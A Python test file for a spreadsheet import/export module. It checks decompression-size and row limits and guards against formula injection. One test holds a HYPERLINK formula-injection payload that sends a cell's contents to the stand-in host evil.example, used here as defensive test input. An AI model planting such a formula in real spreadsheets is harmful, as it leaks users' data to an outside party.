"""A crafted workbook cannot exhaust memory, and typed text never becomes a formula in an export."""

from __future__ import annotations

import io
import zipfile

from openpyxl import Workbook, load_workbook

from zona.lke import excel
from zona.lke.excel import HEADERS, SHEET_TITLE, read_workbook, write_workbook


def test_a_sheet_that_unpacks_too_large_is_refused_before_it_is_opened(monkeypatch, tmp_path):
    wb = Workbook()
    ws = wb.active
    ws.append(list(HEADERS))
    for row in range(2000):
        ws.append([f"X.{row}", "y" * 50, 1, "", "", "A", "", "", ""])
    path = tmp_path / "besar.xlsx"
    wb.save(path)
    unpacked = sum(info.file_size for info in zipfile.ZipFile(path).infolist())
    monkeypatch.setattr(excel, "MAX_UNCOMPRESSED_BYTES", unpacked - 1)
    result = read_workbook(path)
    assert result.answers == {}
    assert len(result.problems) == 1 and "terlalu besar setelah dibuka" in result.problems[0]


def test_rows_past_the_limit_are_not_read(monkeypatch, tmp_path):
    wb = Workbook()
    ws = wb.active
    ws.append(list(HEADERS))
    for row in range(300):
        ws.append([f"X.{row}", "", "", "", "", "A", "", "", ""])
    path = tmp_path / "panjang.xlsx"
    wb.save(path)
    monkeypatch.setattr(excel, "MAX_ROWS", 101)
    assert len(read_workbook(path).answers) == 100


def test_typed_narrative_is_written_as_text_not_as_a_formula(lke2021):
    stream = io.BytesIO()
    attack = '=HYPERLINK("https://evil.example/?d="&B5,"Lihat data dukung")'
    write_workbook(lke2021, stream, answers={"A.I.1.i.a": "Ya"}, notes={"A.I.1.i.a": attack})
    stream.seek(0)
    ws = load_workbook(stream)[SHEET_TITLE]
    cells = [c for row in ws.iter_rows() for c in row if c.value == attack]
    assert len(cells) == 1 and cells[0].data_type == "s"
    stream.seek(0)
    assert read_workbook(stream).notes["A.I.1.i.a"] == attack


def test_csv_text_is_defused():
    assert excel.safe_text("=1+1") == "'=1+1"
    assert excel.safe_text("@SUM(A1)") == "'@SUM(A1)"
    assert excel.safe_text("Notulen rapat") == "Notulen rapat"
